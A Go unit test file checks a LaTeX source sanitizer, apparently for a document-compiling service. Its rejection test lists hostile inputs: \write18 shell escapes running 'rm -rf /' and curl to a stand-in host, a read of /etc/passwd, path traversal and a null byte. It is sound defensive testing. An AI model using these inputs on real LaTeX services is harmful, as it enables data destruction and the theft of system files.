package service

import "testing"

func TestSanitizeSource_AllowsOrdinaryDocuments(t *testing.T) {
	sources := []string{
		`\documentclass{article}\begin{document}Hello\end{document}`,
		`\input{chapter1}`,
		`\include{sections/intro}`,
		`\usepackage{graphicx}\includegraphics{figure.png}`,
	}
	for _, src := range sources {
		if err := SanitizeSource(src); err != nil {
			t.Errorf("SanitizeSource(%q) = %v, want nil", src, err)
		}
	}
}

func TestSanitizeSource_RejectsEscapeHatches(t *testing.T) {
	sources := []string{
		`\write18{rm -rf /}`,
		`\immediate\write18{curl evil.example}`,
		`\ShellEscape{id}`,
		`\input{/etc/passwd}`,
		`\input{../outside}`,
		`\openout1=/tmp/evil`,
		"pre\x00post",
	}
	for _, src := range sources {
		if err := SanitizeSource(src); err == nil {
			t.Errorf("SanitizeSource(%q) = nil, want rejection", src)
		}
	}
}
